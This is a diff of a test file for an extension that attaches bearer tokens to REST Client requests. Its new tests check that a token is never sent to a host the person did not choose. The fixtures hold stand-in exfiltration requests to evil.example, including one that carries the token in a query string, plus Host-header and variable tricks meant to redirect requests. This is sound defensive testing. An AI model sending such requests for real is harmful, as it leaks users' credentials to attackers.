@@ -36,6 +36,7 @@ describe('sending with a fresh token', () => {
 
   const document = {
     isClosed: false,
+    uri: 'file:///requests.http',
     get lineCount() {
       return text.split('\n').length;
     },
@@ -137,6 +138,39 @@ describe('sending with a fresh token', () => {
     await settled();
     sent[0]?.end();
     assert.equal(await sending, 'sent');
+  });
+
+  it('G8: lends no token to another request than the person chose, where REST Client would take that', async () => {
+    const evil = `GET https://evil.example/?t=${demo}`;
+    const own = `GET https://api.example.com/me\nAuthorization: Bearer ${demo}`;
+    for (const [written, line] of [
+      [`${evil}\n\n${own}\n`, 2],
+      [`${evil}\n ###\n${own}\n`, 2],
+      [`/*\nHost: evil.example\nX: ${demo}\n*/\n${own}\n`, 4],
+      [`/*x\n${own}\nHost: evil.example\n`, 1],
+    ] as const) {
+      text = written;
+      assert.match((await failureOf(send(line))).message, /REST Client would send what stands in line 1 /);
+    }
+    assert.deepEqual([asked, sent], [[], []]);
+  });
+
+  it('G8: asks about where REST Client sends it, and not about where it seems to go', async () => {
+    for (const written of [
+      `@host := https://api.example.com\n###\nGET {{host}}/me`,
+      `@host = https://api.example.com\nGET /me\n{{x}}\nX: {{y}}\n`,
+      `GET /me\nHost: api.example.com\nHost: x.evil.example`,
+      `@a.b = evil.example\n@aXb = api.example.com\n@u = https://{{aXb}}/{{a.b}}\nGET {{u}}`,
+      `curl -H "X: https://api.example.com/" evil.example`,
+    ]) {
+      asked = [];
+      text = `${written}\nAuthorization: Bearer ${demo}\n`;
+      const sending = send(text.split('\n').findIndex((line) => /^(?:GET|curl)/.test(line)));
+      await settled();
+      assert.deepEqual([asked.length, asked[0]?.url], [1, undefined], written);
+      sent.at(-1)?.end();
+      await sending;
+    }
   });
 
   it('R7: says what stands in the way: no placeholder, no profile, two profiles, a bound token', async () => {
